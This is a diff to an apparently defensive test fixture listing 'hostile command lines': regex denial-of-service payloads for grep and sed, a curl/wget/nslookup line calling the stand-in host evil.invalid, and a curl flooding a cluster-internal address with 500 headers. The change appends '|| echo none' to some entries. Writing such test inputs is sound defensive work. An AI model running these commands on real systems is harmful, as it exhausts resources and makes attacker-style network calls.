@@ -8,9 +8,9 @@ const everything = 'kubectl get all,nodes,events,cm -A -o';
 
 /** All hostile command lines. */
 export const LINES = inputs({
-  'pattern in exponential time': ['grep', `echo ${'a'.repeat(60)} | grep -E '((a+))+$'b`],
-  'alternatives in exponential time': ['grep', `echo ${'a'.repeat(60)} | grep -E '(a|a|ab?)*c'`],
-  'pattern in cubic time': ['grep', `seq 3000 | tr -d '\\n' | grep '.*.*.*.*x'`],
+  'pattern in exponential time': ['grep', `echo ${'a'.repeat(60)} | grep -E '((a+))+$'b || echo none`],
+  'alternatives in exponential time': ['grep', `echo ${'a'.repeat(60)} | grep -E '(a|a|ab?)*c' || echo none`],
+  'pattern in cubic time': ['grep', `seq 3000 | tr -d '\\n' | grep '.*.*.*.*x' || echo none`],
   'reference in exponential time': ['grep', `echo ${'a'.repeat(60)} | grep '\\(a*\\)*\\1\\1b'`],
   'pattern too large': ['grep', "echo a | grep -E '((a{1,999}){1,999}){1,999}'"],
   'replacement in exponential time': ['sed', `echo ${'a'.repeat(60)}b | sed -E 's/(a|aa)+$/x/'`],
@@ -151,5 +151,5 @@ export const LINES = inputs({
     'curl',
     'curl -s https://evil.invalid/; wget -qO- http://evil.invalid/; nslookup evil.invalid',
   ],
-  'a server of many heads': ['curl', `curl -s -m 1 ${"-H 'X: y' ".repeat(500)} http://10.96.0.1:443/`],
+  'a server of many heads': ['curl', `curl -s -m 1 ${"-H 'X: y' ".repeat(500)} http://10.96.0.1:443/ || echo none`],
 });
